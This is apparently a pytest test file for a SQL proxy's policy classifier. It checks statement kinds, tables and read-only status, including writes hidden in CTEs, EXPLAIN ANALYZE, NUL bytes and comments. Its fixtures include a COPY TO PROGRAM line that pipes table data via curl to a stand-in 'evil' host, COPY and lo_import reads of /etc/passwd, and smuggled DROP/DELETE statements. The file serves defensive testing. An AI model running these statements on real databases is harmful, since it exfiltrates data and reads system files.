"""SQL classification with libpg_query: kinds, tables, read-only, including the ways writes hide."""

from __future__ import annotations

from collections import OrderedDict
from pathlib import Path

import pytest

from proxy.policy import classify as classify_module
from proxy.policy import statement_walk
from proxy.policy.classify import classify


@pytest.mark.parametrize("sql, kinds, tables", [
    ("SELECT * FROM public.accounts a JOIN orders o ON true", ["SELECT"], ["public.accounts", "orders"]),
    ("INSERT INTO app.t SELECT * FROM src", ["INSERT"], ["app.t", "src"]),
    ("UPDATE t SET a = 1", ["UPDATE"], ["t"]),
    ("DELETE FROM t WHERE id = 3", ["DELETE"], ["t"]),
    ("MERGE INTO t USING u ON t.a = u.a WHEN MATCHED THEN DELETE", ["MERGE"], ["t", "u"]),
    ("DROP TABLE public.t, u", ["DROP TABLE"], ["public.t", "u"]),
    ("DROP SCHEMA s CASCADE", ["DROP SCHEMA"], []),
    ("CREATE TABLE x (a int)", ["CREATE TABLE"], ["x"]),
    ("ALTER TABLE t ADD COLUMN b int", ["ALTER TABLE"], ["t"]),
    ("GRANT SELECT ON s.t TO bob", ["GRANT"], ["s.t"]),
    ("REVOKE SELECT ON t FROM bob", ["REVOKE"], ["t"]),
    ("TRUNCATE a, b.c", ["TRUNCATE"], ["a", "b.c"]),
    ("BEGIN", ["BEGIN"], []),
    ("COMMIT", ["COMMIT"], []),
    ("ROLLBACK", ["ROLLBACK"], []),
    ("SET search_path = app", ["SET"], []),
    ("CALL refresh_all()", ["CALL"], []),
    ("DO $$ BEGIN PERFORM 1; END $$", ["DO"], []),
    ("CREATE SCHEMA reporting", ["CREATE SCHEMA"], []),
])
def test_kinds_and_tables(sql: str, kinds: list[str], tables: list[str]) -> None:
    c = classify(sql)
    assert list(c.kinds) == kinds
    assert list(c.tables) == tables
    assert c.fingerprint


@pytest.mark.parametrize("sql", [
    "SELECT * FROM t",
    "SELECT count(*) FROM t WHERE a > 3",
    "EXPLAIN DELETE FROM t",  # plans only
    "EXPLAIN (ANALYZE false) DELETE FROM t",
    "COPY t TO STDOUT",
    "BEGIN; SELECT 1; COMMIT",
    "SHOW work_mem",
    "VALUES (1), (2)",
])
def test_read_only(sql: str) -> None:
    assert classify(sql).is_read_only


@pytest.mark.parametrize("sql, hidden_kind", [
    ("WITH gone AS (DELETE FROM t RETURNING *) SELECT * FROM gone", "DELETE"),
    ("WITH x AS (SELECT 1), y AS (UPDATE t SET a = 2 RETURNING a) SELECT * FROM y", "UPDATE"),
    ("SELECT 1; INSERT INTO t VALUES (1)", "INSERT"),
    ("EXPLAIN ANALYZE DELETE FROM t", "DELETE"),
    ("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1", "UPDATE"),
    ("EXPLAIN (ANALYZE 1) INSERT INTO t VALUES (1)", "INSERT"),
    ("COPY t FROM STDIN", "COPY FROM"),
    ("COPY (DELETE FROM t RETURNING *) TO STDOUT", "DELETE"),
    ("PREPARE p AS DELETE FROM t", "DELETE"),
    ("SELECT a INTO copy_of_t FROM t", "SELECT INTO"),
])
def test_writes_that_hide_are_found(sql: str, hidden_kind: str) -> None:
    c = classify(sql)
    assert hidden_kind in c.kinds
    assert not c.is_read_only


@pytest.mark.parametrize("sql", [
    "SELECT * FROM t FOR UPDATE",
    "SELECT nextval('ids')",
    "SELECT setval('ids', 1)",
    "CALL p()",
    "DO $$ BEGIN END $$",
    "EXECUTE prepared_elsewhere",
    "VACUUM t",
    "LOCK TABLE t",
    "FETCH c",  # runs the query of a cursor declared earlier: DECLARE c CURSOR FOR SELECT writes()
    "MOVE FORWARD 5 IN c",
    "SET CONSTRAINTS ALL IMMEDIATE",  # fires deferred constraint triggers
])
def test_not_read_only_without_a_write_statement(sql: str) -> None:
    assert not classify(sql).is_read_only


def test_copy_direction_and_table() -> None:
    into = classify("COPY app.events (a, b) FROM STDIN (FORMAT csv)")
    assert (into.copy_direction, into.copy_table) == ("FROM", "app.events")
    assert "COPY" in into.kinds
    out = classify("COPY app.events TO STDOUT")
    assert (out.copy_direction, out.copy_table, out.is_read_only) == ("TO", "app.events", True)


@pytest.mark.parametrize("sql", ["SELEC 1", "DELETE FROM", "SELECT 'unterminated", "\x00\x01garbage"])
def test_unparsable_is_unknown_and_not_read_only(sql: str) -> None:
    c = classify(sql)
    assert c.kinds == ("UNKNOWN",)
    assert not c.is_read_only


def test_functions_are_listed() -> None:
    assert classify("SELECT lower(name), pg_catalog.now() FROM t").functions == ("lower", "now")


def test_literals_share_a_cached_shape_but_identifiers_do_not() -> None:
    a = classify("SELECT * FROM app.t WHERE id = 1")
    b = classify("SELECT * FROM app.t WHERE id = 2")
    assert a is b  # one normalised shape: the second cost a normalise and a lookup
    other_schema = classify("SELECT * FROM other.t WHERE id = 1")
    assert other_schema.tables == ("other.t",)  # libpg_query's fingerprint ignores the schema; we do not
    assert a.fingerprint == other_schema.fingerprint


def test_cache_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(classify_module, "MAX_CACHED", 10)
    for name in ("_by_text", "_by_normalized", "_by_shape"):
        monkeypatch.setattr(classify_module, name, OrderedDict())
    for i in range(50):
        classify(f"SELECT * FROM t{i}")  # shape-keyed
        classify(f"SELECT * FROM u{i} WHERE a = $1")  # text-keyed: "$" never takes the shape path
    assert len(classify_module._by_text) <= 10 + 1
    assert len(classify_module._by_normalized) <= 10 + 1
    assert len(classify_module._by_shape) <= 10 + 1


def test_text_after_a_nul_cannot_hide_behind_a_cached_shape() -> None:
    assert classify("SELECT 1").is_read_only
    hidden = classify("SELECT 1\x00; DELETE FROM t")  # libpg_query would read only "SELECT 1"
    assert hidden.kinds == ("UNKNOWN",) and not hidden.is_read_only


def test_fresh_literals_reuse_the_shape_but_never_across_tables_or_tricky_quoting() -> None:
    # pgbench -M simple sends a new literal each time: same shape, same classification.
    a = classify("UPDATE pgbench_accounts SET abalance = abalance + 17 WHERE aid = 4242;")
    b = classify("UPDATE pgbench_accounts SET abalance = abalance + -5 WHERE aid = 99;")
    assert a == b and a.kinds == ("UPDATE",)
    # Digits inside identifiers are names, not literals: t1 and t2 stay apart.
    assert classify("DELETE FROM t1 WHERE id = 1").tables == ("t1",)
    assert classify("DELETE FROM t2 WHERE id = 1").tables == ("t2",)
    # A quote inside a comment or an escape string must not make a write look like an earlier read.
    assert classify("SELECT 'x' FROM items").is_read_only
    assert not classify("SELECT 'x' FROM items; -- '\nDROP TABLE items").is_read_only
    assert not classify("SELECT E'\\'' FROM items; DELETE FROM items; SELECT ''").is_read_only
    assert classify("SELECT 'it''s' AS a").kinds == ("SELECT",)


@pytest.mark.parametrize("sql", [
    "WITH locked AS (SELECT * FROM t FOR UPDATE) SELECT * FROM locked",
    "SELECT * FROM (SELECT * FROM t FOR SHARE) s",
    "SELECT * FROM t WHERE id IN (SELECT id FROM u FOR NO KEY UPDATE)",
    "SELECT (SELECT a FROM u LIMIT 1 FOR KEY SHARE) FROM t",
    "DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE",
    "SELECT 1 UNION ALL (SELECT 1 FROM t FOR UPDATE)",
])
def test_row_locks_anywhere_in_the_tree_are_not_read_only(sql: str) -> None:
    assert not classify(sql).is_read_only


@pytest.mark.parametrize("sql, kind", [
    ("COPY t TO PROGRAM 'curl -d @- http://evil'", "COPY TO PROGRAM"),
    ("COPY (SELECT * FROM t) TO PROGRAM 'sh'", "COPY TO PROGRAM"),
    ("COPY t TO '/tmp/dump'", "COPY TO FILE"),
    ("COPY t FROM PROGRAM 'id'", "COPY FROM PROGRAM"),
    ("COPY t FROM '/etc/passwd'", "COPY FROM FILE"),
])
def test_copy_to_or_from_the_server_side_is_not_read_only(sql: str, kind: str) -> None:
    c = classify(sql)
    assert kind in c.kinds and not c.is_read_only


@pytest.mark.parametrize("sql", [
    "SELECT set_config('default_transaction_read_only', 'off', false)",
    "SELECT pg_notify('ch', 'payload')",
    "SELECT pg_advisory_lock(1)",
    "SELECT pg_try_advisory_xact_lock(1)",
    "SELECT lo_create(0)",
    "SELECT lo_import('/etc/passwd')",
    "SELECT txid_current()",
    "SELECT pg_current_xact_id()",
    "SELECT pg_catalog.nextval('s')",
    "SELECT writes_rows()",  # a user function: we cannot see what it does
    "SELECT public.lower('X')",  # a built-in name outside pg_catalog
    'SELECT "LOWER"(\'X\')',  # quoted: another function than lower
    "SELECT a.b.c()",
    "SELECT * FROM my_srf()",
    "SELECT * FROM t WHERE a = my_check(a)",
    "SELECT * FROM t ORDER BY my_rank(a)",
    "WITH x AS (SELECT my_func()) SELECT * FROM x",
    "SELECT count(*) FILTER (WHERE my_pred(a)) FROM t",
])
def test_a_statement_calling_anything_but_a_read_only_builtin_is_not_read_only(sql: str) -> None:
    assert not classify(sql).is_read_only


@pytest.mark.parametrize("sql", [
    "SELECT lower(name), pg_catalog.upper(name), count(*), now(), random() FROM t GROUP BY 1, 2",
    "SELECT * FROM generate_series(1, 10) g",
    "SELECT extract(year FROM now()), coalesce(a, 0), current_setting('search_path') FROM t",
    "SELECT row_number() OVER (ORDER BY a), currval('s') FROM t",
    "SELECT trim(both ' ' from v), substring(v from 2) FROM t",
])
def test_read_only_builtins_keep_a_select_read_only(sql: str) -> None:
    assert classify(sql).is_read_only


def test_the_builtin_list_ships_with_the_package_and_holds_no_writer() -> None:
    from importlib import resources

    shipped = resources.files("proxy.policy").joinpath("builtin_functions.txt")
    assert shipped.is_file()
    names = statement_walk.READ_ONLY_BUILTINS
    assert {"lower", "count", "now", "generate_series", "jsonb_build_object", "currval"} <= names
    assert not names & {"nextval", "setval", "set_config", "pg_notify", "pg_advisory_lock", "lo_create",
                        "lo_import", "txid_current", "pg_terminate_backend", "query_to_xml", "pg_read_file"}
    pyproject = (Path(__file__).resolve().parents[2] / "pyproject.toml").read_text()
    assert '"proxy.policy" = ["builtin_functions.txt", "builtin_operators.txt", ' in pyproject
    assert {"=", "<>", "+", "~~", "->>", "@>", "||"} <= statement_walk.READ_ONLY_OPERATORS


@pytest.mark.parametrize("sql, read_only", [
    ("SELECT a + b, a || 'x', j ->> 'k', a = ANY(b), a IS DISTINCT FROM b FROM t WHERE a LIKE 'x%'", True),
    ("SELECT * FROM t WHERE a BETWEEN 1 AND 2 AND b NOT BETWEEN SYMMETRIC 3 AND 4 AND c IN (1, 2)", True),
    ("SELECT a OPERATOR(pg_catalog.+) b FROM t", True),
    ("SELECT a === b FROM t", False),  # a user-defined operator runs a user function
    ("SELECT * FROM t WHERE a <=> b", False),
    ("SELECT a OPERATOR(public.+) b FROM t", False),
])
def test_operators_outside_the_builtin_list_are_not_read_only(sql: str, read_only: bool) -> None:
    assert classify(sql).is_read_only is read_only
